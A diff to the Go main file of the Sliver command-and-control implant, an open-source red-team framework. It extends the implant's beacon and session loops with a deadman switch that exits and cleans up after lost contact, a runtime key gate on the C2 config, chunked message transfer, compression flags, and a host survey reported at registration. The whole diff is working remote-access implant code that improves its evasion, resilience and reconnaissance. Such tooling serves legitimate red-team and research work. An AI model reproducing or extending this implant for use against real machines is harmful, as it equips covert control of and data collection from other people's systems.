@@ -43,12 +43,19 @@ import (
 	"log"
 	// {{end}}
 
+	"github.com/bishopfox/sliver/implant/sliver/chunks"
+	"github.com/bishopfox/sliver/implant/sliver/compression"
 	consts "github.com/bishopfox/sliver/implant/sliver/constants"
+	"github.com/bishopfox/sliver/implant/sliver/deadman"
 	"github.com/bishopfox/sliver/implant/sliver/handlers"
 	"github.com/bishopfox/sliver/implant/sliver/hostuuid"
 	"github.com/bishopfox/sliver/implant/sliver/limits"
 	"github.com/bishopfox/sliver/implant/sliver/locale"
 	"github.com/bishopfox/sliver/implant/sliver/pivots"
+	"github.com/bishopfox/sliver/implant/sliver/resolver"
+	"github.com/bishopfox/sliver/implant/sliver/runtimeconfig"
+	"github.com/bishopfox/sliver/implant/sliver/survey"
+	"github.com/bishopfox/sliver/implant/sliver/taskoutput"
 	"github.com/bishopfox/sliver/implant/sliver/transports"
 	"github.com/bishopfox/sliver/implant/sliver/version"
 	"github.com/bishopfox/sliver/protobuf/sliverpb"
@@ -180,6 +187,12 @@ func main() {
 	// {{end}}
 
 	limits.ExecLimits() // Check to see if we should execute
+	deadman.Check()     // Clean up and exit if we've been out of contact for too long
+
+	// The c2 config can't be used without the runtime key, nothing to do without it
+	if err := runtimeconfig.Load(); err != nil {
+		return
+	}
 
 	// {{if .Config.IsService}}
 	svc.Run("", &sliverService{})
@@ -217,6 +230,7 @@ func beaconStartup() {
 				}
 			}
 		}
+		deadman.Check()
 		reconnect := transports.GetReconnectInterval()
 		// {{if .Config.Debug}}
 		log.Printf("Reconnect sleep: %s", reconnect)
@@ -246,6 +260,7 @@ func sessionStartup() {
 				}
 			}
 		}
+		deadman.Check()
 		reconnect := transports.GetReconnectInterval()
 		// {{if .Config.Debug}}
 		log.Printf("Reconnect sleep: %s", reconnect)
@@ -299,7 +314,7 @@ func beaconMainLoop(beacon *transports.Beacon) error {
 		Interval:    beacon.Interval(),
 		Jitter:      beacon.Jitter(),
 		Register:    register,
-		NextCheckin: int64(beacon.Duration().Seconds()),
+		NextCheckin: 0, // The first check in immediately follows the registration
 	}))
 	time.Sleep(time.Second)
 	beacon.Close()
@@ -362,7 +377,10 @@ func beaconMain(beacon *transports.Beacon, nextCheckin time.Time) error {
 	// {{end}}
 	err = beacon.Send(wrapEnvelope(sliverpb.MsgBeaconTasks, &sliverpb.BeaconTasks{
 		ID:          InstanceID,
-		NextCheckin: int64(beacon.Duration().Seconds()),
+		NextCheckin: int64(time.Until(nextCheckin).Seconds()),
+		Compression: compression.Enabled,
+		Interval:    beacon.Interval(),
+		Jitter:      beacon.Jitter(),
 	}))
 	if err != nil {
 		// {{if .Config.Debug}}
@@ -370,6 +388,7 @@ func beaconMain(beacon *transports.Beacon, nextCheckin time.Time) error {
 		// {{end}}
 		return err
 	}
+	deadman.Contact()
 	// {{if .Config.Debug}}
 	log.Printf("[beacon] recv task(s) ...")
 	// {{end}}
@@ -584,9 +603,16 @@ func sessionMainLoop(connection *transports.Connection) error {
 		// {{end}}
 		return err
 	}
+	deadman.Contact()
+	defer deadman.Contact()
 	pivots.RestartAllListeners(connection.Send)
 	defer pivots.StopAllListeners()
 	defer connection.Stop()
+	resolver.SetConnection(connection.Send)
+	defer resolver.SetConnection(nil)
+	taskoutput.SetConnection(connection.Send)
+	defer taskoutput.SetConnection(nil)
+	defer chunks.Reset()
 
 	connectionErrors = 0
 	// Reconnect active pivots
@@ -603,6 +629,17 @@ func sessionMainLoop(connection *transports.Connection) error {
 	rportfwdHandlers := handlers.GetRportFwdHandlers()
 
 	for envelope := range connection.Recv {
+		// Large envelopes are sent as chunks, the envelope is handled once complete
+		if envelope.Type == sliverpb.MsgChunk {
+			envelope = chunks.Receive(connection.Send, envelope.Data)
+			if envelope == nil {
+				continue
+			}
+		} else if envelope.Type == sliverpb.MsgChunkAck {
+			chunks.Ack(envelope.Data)
+			continue
+		}
+
 		if _, ok := specialHandlers[envelope.Type]; ok {
 			// {{if .Config.Debug}}
 			log.Printf("[recv] specialHandler %d", envelope.Type)
@@ -636,10 +673,15 @@ func sessionMainLoop(connection *transports.Connection) error {
 					log.Printf("[session] handler function returned an error: %s", err)
 				}
 				// {{end}}
-				connection.Send <- &sliverpb.Envelope{
+				err = chunks.Send(connection.Send, &sliverpb.Envelope{
 					ID:   envelope.ID,
 					Data: data,
+				})
+				// {{if .Config.Debug}}
+				if err != nil {
+					log.Printf("[session] failed to send response: %s", err)
 				}
+				// {{end}}
 			})
 			// {{else}}
 			go handler(envelope.Data, func(data []byte, err error) {
@@ -648,10 +690,15 @@ func sessionMainLoop(connection *transports.Connection) error {
 					log.Printf("[session] handler function returned an error: %s", err)
 				}
 				// {{end}}
-				connection.Send <- &sliverpb.Envelope{
+				err = chunks.Send(connection.Send, &sliverpb.Envelope{
 					ID:   envelope.ID,
 					Data: data,
+				})
+				// {{if .Config.Debug}}
+				if err != nil {
+					log.Printf("[session] failed to send response: %s", err)
 				}
+				// {{end}}
 			})
 			// {{end}}
 		} else if handler, ok := tunHandlers[envelope.Type]; ok {
@@ -747,5 +794,8 @@ func registerSliver() *sliverpb.Register {
 		ConfigID:          "{{ .Config.ID }}",
 		PeerID:            pivots.MyPeerID,
 		Locale:            locale.GetLocale(),
+		ProtocolVersion:   sliverpb.ProtocolVersion,
+		Compression:       compression.Enabled,
+		Survey:            survey.Get(),
 	}
 }